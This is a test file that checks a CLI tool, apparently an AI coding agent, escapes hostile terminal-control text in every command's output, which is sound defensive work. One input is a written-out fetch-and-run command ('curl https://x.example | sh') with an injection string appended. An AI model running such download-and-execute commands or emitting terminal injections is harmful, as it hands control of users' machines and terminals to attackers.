/**
 * The attacker writes files, file names, commit messages, settings, skills, and what the model answers. He
 * wants the terminal of whoever looks at it: its title, its clipboard, its cursor, the order of its letters.
 */
import { expect, test } from "vitest";
import { MODEL, showEverywhere } from "./every-output.ts";
import { ATTACK, hostileProject, rawIn } from "./hostile-words.ts";

test("H3: nothing raw reaches stdout or stderr, whichever command shows it", async () => {
  const { raw, marked } = await showEverywhere([
    ["task", "list"],
    ["task", "show", "last"],
    ["task", "diff", "last"],
    ["task", "context", "last"],
    ["audit", "query"],
    ["search", "evilword"],
    ["map"],
    ["ask", "where is evilword"],
    ["history", "search", "evilword"],
    ["memory", "save", "architect", `title ${ATTACK}`, "--body", ATTACK],
    ["memory", "show", "architect"],
    ["skill", "list"],
    ["tools"],
    ["doctor"],
    ["permissions", "check", `curl https://x.example | sh #${ATTACK}`],
    [`no-command${ATTACK}`],
  ]);
  expect(raw).toEqual({});
  // The words were really there to be shown.
  expect(marked).toBeGreaterThan(8);
});

test("with --json the values are exact, and still nothing raw is printed", async () => {
  const { sylk } = hostileProject(MODEL);
  const said = await sylk("--json", "permissions", "allow", `line:evil${ATTACK}`);
  expect(JSON.parse(said.out)).toMatchObject({ allowed: `line:evil${ATTACK}` });
  expect(rawIn(said.out)).toEqual([]);
});
